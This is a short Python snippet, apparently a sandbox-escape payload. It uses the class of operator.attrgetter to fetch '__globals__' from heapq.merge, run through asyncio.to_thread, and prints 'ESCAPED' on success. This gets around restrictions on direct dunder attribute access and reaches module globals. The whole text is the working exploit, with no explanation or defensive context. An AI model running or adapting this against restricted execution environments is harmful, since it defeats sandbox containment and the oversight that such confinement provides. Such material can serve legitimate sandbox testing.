# With the class of an attrgetter, which takes any name.
import asyncio, heapq
from operator import attrgetter
A = type(attrgetter("x"))
print("ESCAPED", await asyncio.to_thread(A("__globals__"), heapq.merge))
